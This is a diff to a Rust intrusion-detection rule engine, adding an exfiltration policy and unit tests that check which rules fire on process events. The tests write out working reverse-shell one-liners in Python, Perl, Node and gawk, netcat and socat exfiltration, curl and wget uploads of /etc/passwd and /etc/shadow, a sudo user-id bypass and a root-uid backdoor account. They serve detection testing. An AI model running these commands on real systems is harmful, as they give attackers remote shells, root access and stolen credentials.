@@ -70,6 +70,10 @@ pub const DEFAULT_FILES: &[(&str, &str)] = &[
         include_str!("../../../policies/io-uring.yaml"),
     ),
     (
+        "policies/exfiltration.yaml",
+        include_str!("../../../policies/exfiltration.yaml"),
+    ),
+    (
         "policies/sql-injection.yaml",
         include_str!("../../../policies/sql-injection.yaml"),
     ),
@@ -508,16 +512,17 @@ mod tests {
         ));
 
         let py = "reverse-shell-scripting-one-liner";
-        only(
-            exec(
+        // Its `subprocess.call(["/bin/sh","-i"])` is also a bare shell started from inline code.
+        fires(
+            &exec(
                 "/usr/bin/python3.11",
                 &["python3", "-c", "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"1.2.3.4\",4444));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])"],
                 &[],
             ),
             py,
         );
-        only(
-            exec(
+        fires(
+            &exec(
                 "/usr/bin/python3.11",
                 &["python3", "-c", "import pty; pty.spawn('/bin/bash')"],
                 &[],
@@ -536,7 +541,7 @@ mod tests {
             ),
             py,
         );
-        only(exec("/usr/bin/perl", &["perl", "-e", "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in(4444,inet_aton(\"1.2.3.4\")));open(STDIN,\">&S\");exec(\"/bin/sh -i\");"], &[]), py);
+        fires(&exec("/usr/bin/perl", &["perl", "-e", "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in(4444,inet_aton(\"1.2.3.4\")));open(STDIN,\">&S\");exec(\"/bin/sh -i\");"], &[]), py);
         none(exec(
             "/usr/bin/python3.11",
             &[
@@ -1115,14 +1120,12 @@ mod tests {
             ),
             "write-user-startup-file",
         );
-        only(
-            open(
-                "/usr/bin/vim.basic",
-                "/home/alice/.zshrc",
-                W | Access::TRUNCATE,
-            ),
-            "edit-user-startup-file",
-        );
+        // The installed editor saving the file is judged at its exec (by its stdin), not here.
+        none(open(
+            "/usr/bin/vim.basic",
+            "/home/alice/.zshrc",
+            W | Access::TRUNCATE,
+        ));
         // A program named like an editor somewhere else is not the editor.
         only(
             open("/tmp/vim.basic", "/home/alice/.zshrc", W),
@@ -1363,11 +1366,17 @@ mod tests {
         only(
             exec(
                 "/usr/bin/touch",
-                &["touch", "--date=2019-01-01", "/tmp/x"],
+                &["touch", "--date=2019-01-01", "/var/www/html/x.php"],
                 &["/usr/bin/bash"],
             ),
             "timestamp-forged",
         );
+        // A chosen date on a scratch file (a marker for `find -newer`/`-mtime`) is not.
+        none(exec(
+            "/usr/bin/touch",
+            &["touch", "-d", "10 days ago", "/tmp/job/marker"],
+            &["/usr/bin/bash"],
+        ));
         none(exec(
             "/usr/bin/touch",
             &["touch", "/tmp/stamp"],
@@ -2350,5 +2359,372 @@ mod tests {
             )),
             "package-manager-in-container",
         );
+    }
+
+    // ---- What the attack suite (tests/scenarios/attack_suite.rs) found missing -----------
+
+    #[track_caller]
+    fn fires(e: &Ev, rule: &str) {
+        let got = fired(e);
+        assert!(
+            got.iter().any(|r| r == rule),
+            "expected {rule}, got {got:?}"
+        );
+    }
+
+    fn with_cwd(mut e: Ev, cwd: &'static str) -> Ev {
+        e.cwd = cwd;
+        e
+    }
+
+    #[test]
+    fn shells_wired_without_a_socket_on_their_stdio() {
+        // bash's /dev/tcp opened by the shell itself, whatever it then runs.
+        only(
+            with_stdio(
+                exec("/usr/bin/cat", &["cat"], &["/usr/bin/bash"]),
+                [FdKind::InetSocket, FdKind::Pipe, FdKind::Tty],
+            ),
+            "shell-hands-socket-to-program",
+        );
+        // A service's child on its connection (inetd, socket activation) is not below a shell.
+        none(with_stdio(
+            exec("/usr/sbin/in.tftpd", &["in.tftpd"], &["/usr/sbin/inetd"]),
+            [FdKind::InetSocket, FdKind::InetSocket, FdKind::Null],
+        ));
+        // `cat f | sh -i 2>&1 | nc HOST PORT > f`: nc reads the shell's output.
+        let nc = fed_by(
+            with_stdio(
+                exec(
+                    "/usr/bin/nc.traditional",
+                    &["nc", "10.0.0.5", "4444"],
+                    &["/usr/bin/bash"],
+                ),
+                [FdKind::Pipe, FdKind::Pipe, FdKind::Tty],
+            ),
+            "/usr/bin/dash",
+            &["/bin/sh", "-i"],
+        );
+        only(nc, "shell-output-piped-to-network-tool");
+        only(
+            exec(
+                "/usr/bin/gawk",
+                &[
+                    "gawk",
+                    "BEGIN {s = \"/inet/tcp/0/10.0.0.5/4444\"; while ((s |& getline c) > 0) print c}",
+                ],
+                &["/usr/bin/bash"],
+            ),
+            "awk-network-special-file",
+        );
+        fires(
+            &exec(
+                "/usr/bin/perl",
+                &[
+                    "perl",
+                    "-MIO",
+                    "-e",
+                    "$c=new IO::Socket::INET(PeerAddr,\"10.0.0.5:4444\");system$_ while<>;",
+                ],
+                &["/usr/bin/bash"],
+            ),
+            "reverse-shell-scripting-one-liner",
+        );
+        fires(
+            &exec(
+                "/usr/bin/node",
+                &[
+                    "node",
+                    "-e",
+                    "const n=require(\"net\"),c=require(\"child_process\");n.connect(4444,\"h\")",
+                ],
+                &["/usr/bin/bash"],
+            ),
+            "reverse-shell-scripting-one-liner",
+        );
+        // Process substitution and a reversed payload.
+        only(
+            exec("/usr/bin/bash", &["bash", "/dev/fd/63"], &["/usr/bin/bash"]),
+            "script-from-descriptor",
+        );
+        fires(
+            &fed_by(
+                with_stdio(exec("/usr/bin/dash", &["sh"], &["/usr/bin/bash"]), PIPE_IN),
+                "/usr/bin/rev",
+                &["rev"],
+            ),
+            "shell-reads-decoded-payload",
+        );
+        // A build running its own generator script from /tmp.
+        none(with_cwd(
+            exec(
+                "/usr/bin/dash",
+                &["/bin/sh", "./gen.sh"],
+                &["/usr/bin/make", "/usr/bin/bash"],
+            ),
+            "/tmp/proj",
+        ));
+    }
+
+    #[test]
+    fn gtfobins_escapes_and_privilege_tricks() {
+        // find -exec /bin/sh -p \; : bare, privileged, below find.
+        let find_sh = exec(
+            "/usr/bin/dash",
+            &["/bin/sh", "-p"],
+            &["/usr/bin/find", "/usr/bin/bash"],
+        );
+        fires(&find_sh, "shell-escape-from-program");
+        fires(&find_sh, "privileged-mode-shell");
+        // zip -TT 'sh #' runs `sh -c 'sh # /tmp/zi…'`, whose inner sh is bare.
+        only(
+            exec(
+                "/usr/bin/dash",
+                &["sh"],
+                &["/usr/bin/dash", "/usr/bin/zip", "/usr/bin/bash"],
+            ),
+            "shell-escape-from-program",
+        );
+        only(
+            exec("/usr/bin/bash", &["bash", "-p"], &["/usr/bin/bash"]),
+            "privileged-mode-shell",
+        );
+        only(
+            exec(
+                "/usr/bin/perl",
+                &["perl", "-e", "exec \"/bin/sh\";"],
+                &["/usr/bin/bash"],
+            ),
+            "interpreter-inline-shell-escape",
+        );
+        only(
+            exec(
+                "/usr/bin/gawk",
+                &["awk", "BEGIN {system(\"/bin/sh\")}"],
+                &["/usr/bin/bash"],
+            ),
+            "interpreter-inline-shell-escape",
+        );
+        only(
+            exec(
+                "/usr/bin/sudo",
+                &["sudo", "-u#-1", "/bin/bash"],
+                &["/usr/bin/bash"],
+            ),
+            "sudo-user-id-bypass",
+        );
+        only(
+            exec(
+                "/usr/sbin/useradd",
+                &[
+                    "useradd", "-o", "-u", "0", "-g", "0", "-M", "-d", "/root", "svc",
+                ],
+                &["/usr/bin/bash"],
+            ),
+            "uid-zero-account-created",
+        );
+        only(
+            exec(
+                "/usr/bin/find",
+                &["find", "/", "-perm", "-4000", "-type", "f"],
+                &["/usr/bin/bash"],
+            ),
+            "privileged-file-discovery",
+        );
+        only(
+            exec(
+                "/usr/sbin/getcap",
+                &["getcap", "-r", "/"],
+                &["/usr/bin/bash"],
+            ),
+            "privileged-file-discovery",
+        );
+        only(
+            exec("/root/.dbus-session", &[], &["/usr/bin/bash"]),
+            "exec-hidden-file-in-home",
+        );
+        // What admins and builds do stays quiet.
+        none(exec("/usr/bin/bash", &["bash"], &["/usr/bin/tmux"]));
+        none(exec(
+            "/usr/bin/dash",
+            &["sh", "-c", "./build.sh"],
+            &["/usr/bin/make", "/usr/bin/bash"],
+        ));
+        none(exec(
+            "/usr/bin/dash",
+            &["/bin/sh", "-c", "exec /bin/true"],
+            &["/usr/bin/gdb", "/usr/bin/bash"],
+        ));
+        none(exec(
+            "/usr/bin/python3.11",
+            &["python3", "-c", "import os; os.system(\"ls\")"],
+            &["/usr/bin/bash"],
+        ));
+        // A shell given a command from inline code is not a bare shell.
+        none(exec(
+            "/usr/bin/node",
+            &[
+                "node",
+                "-e",
+                "require(\"child_process\").execFileSync(\"/bin/sh\", [\"-c\", \"true\"])",
+            ],
+            &["/usr/bin/bash"],
+        ));
+        only(
+            exec(
+                "/usr/bin/python3.11",
+                &[
+                    "python3",
+                    "-c",
+                    "import os; os.execl(\"/bin/sh\", \"sh\", \"-p\")",
+                ],
+                &["/usr/bin/bash"],
+            ),
+            "interpreter-inline-shell-escape",
+        );
+        none(exec(
+            "/usr/sbin/useradd",
+            &["useradd", "-m", "-u", "1001", "bob"],
+            &["/usr/bin/bash"],
+        ));
+        none(exec(
+            "/usr/bin/find",
+            &["find", "/var/log", "-perm", "-o+w"],
+            &["/usr/bin/bash"],
+        ));
+        none(exec(
+            "/root/.cargo/bin/cargo",
+            &["cargo", "build"],
+            &["/usr/bin/bash"],
+        ));
+        none(change("/usr/sbin/useradd", "utimes", "/etc/passwd-"));
+    }
+
+    #[test]
+    fn files_sent_out_and_port_sweeps() {
+        let nc = |stdio, peer: Option<&'static str>| {
+            let e = with_stdio(
+                exec(
+                    "/usr/bin/nc.traditional",
+                    &["nc", "-q", "1", "10.0.0.5", "4444"],
+                    &["/usr/bin/bash"],
+                ),
+                stdio,
+            );
+            match peer {
+                Some(p) => fed_by(e, p, &["cat", "/etc/passwd"]),
+                None => e,
+            }
+        };
+        only(
+            nc([FdKind::File, FdKind::Tty, FdKind::Tty], None),
+            "file-redirected-to-netcat",
+        );
+        only(nc(PIPE_IN, Some("/usr/bin/cat")), "file-piped-to-netcat");
+        none(nc(TTY, None));
+        only(
+            exec(
+                "/usr/bin/socat",
+                &["socat", "-u", "FILE:/etc/passwd", "TCP:10.0.0.5:4444"],
+                &["/usr/bin/bash"],
+            ),
+            "file-sent-by-socat",
+        );
+        only(
+            exec(
+                "/usr/bin/curl",
+                &["curl", "-s", "-F", "f=@/etc/passwd", "http://10.0.0.5/u"],
+                &["/usr/bin/bash"],
+            ),
+            "sensitive-file-uploaded-by-http-client",
+        );
+        only(
+            exec(
+                "/usr/bin/wget",
+                &["wget", "--post-file=/etc/shadow", "http://10.0.0.5/u"],
+                &["/usr/bin/bash"],
+            ),
+            "sensitive-file-uploaded-by-http-client",
+        );
+        none(exec(
+            "/usr/bin/curl",
+            &["curl", "-d", "@payload.json", "https://api.example/v1"],
+            &["/usr/bin/bash"],
+        ));
+        only(
+            exec(
+                "/usr/bin/nc.traditional",
+                &["nc", "-zvn", "-w", "1", "10.0.0.5", "20-25"],
+                &["/usr/bin/bash"],
+            ),
+            "port-scan-by-netcat",
+        );
+        none(exec(
+            "/usr/bin/nc.traditional",
+            &["nc", "-z", "-w", "1", "10.0.0.5", "443"],
+            &["/usr/bin/bash"],
+        ));
+    }
+
+    #[test]
+    fn admin_routines_the_attack_suite_runs_stay_quiet() {
+        // A backup of /etc as a whole reads the hash files; naming them is still a read.
+        let mut backup = open("/usr/bin/tar", "/etc/shadow", Access::READ);
+        backup.argv = ["tar", "czf", "/var/backups/etc.tgz", "/etc"]
+            .map(String::from)
+            .to_vec();
+        none(backup);
+        let mut grab = open("/usr/bin/tar", "/etc/shadow", Access::READ);
+        grab.argv = ["tar", "czf", "/tmp/s.tgz", "/etc/shadow"]
+            .map(String::from)
+            .to_vec();
+        only(grab, "read-shadow-file");
+        // gdb reading its own inferior's memory.
+        none(open("/usr/bin/gdb", "/proc/4242/mem", Access::READ));
+        // An editor at a terminal; the same editor driven by a script.
+        let vim = |stdio| {
+            with_stdio(
+                exec(
+                    "/usr/bin/vim.basic",
+                    &["vim", "/home/alice/.bashrc"],
+                    &["/usr/bin/bash"],
+                ),
+                stdio,
+            )
+        };
+        none(vim(TTY));
+        only(
+            vim([FdKind::Null, FdKind::Null, FdKind::Null]),
+            "startup-file-edited-without-terminal",
+        );
+        only(
+            with_stdio(
+                exec("/usr/bin/ed", &["ed", "-s", ".profile"], &["/usr/bin/bash"]),
+                PIPE_IN,
+            ),
+            "startup-file-edited-without-terminal",
+        );
+        // History files: another program's truncated, or the shell's own by a script.
+        let mut typed = open(
+            "/usr/bin/bash",
+            "/home/alice/.python_history",
+            W | Access::TRUNCATE,
+        );
+        typed.argv = vec!["-bash".into()];
+        only(typed, "shell-history-truncated-by-command");
+        let mut script = open(
+            "/usr/bin/bash",
+            "/home/alice/.bash_history",
+            W | Access::TRUNCATE,
+        );
+        script.argv = vec!["bash".into(), "/opt/cleanup.sh".into()];
+        only(script, "shell-history-truncated-by-command");
+        let mut repl = open(
+            "/usr/bin/python3.11",
+            "/home/alice/.python_history",
+            W | Access::TRUNCATE,
+        );
+        repl.argv = vec!["python3".into()];
+        none(repl);
     }
 }
